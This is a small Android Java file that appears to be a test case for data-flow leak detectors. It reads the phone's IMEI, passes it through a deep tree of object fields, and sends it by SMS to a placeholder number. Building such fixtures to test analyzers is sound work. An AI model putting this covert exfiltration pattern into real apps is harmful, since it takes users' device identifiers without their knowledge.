// about       Six fields deep in a tree of one class: the text that was written is sent.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Branch {
    Branch left;
    Branch right;
    String text = "leaf";

    static Branch grow(int height) {
      Branch branch = new Branch();
      if (height > 0) {
        branch.left = grow(height - 1);
        branch.right = grow(height - 1);
      }
      return branch;
    }
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Branch root = Branch.grow(5);
    root.left.right.left.right.left.text = phone.getDeviceId();
    // The same way down.
    String text = root.left.right.left.right.left.text;
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
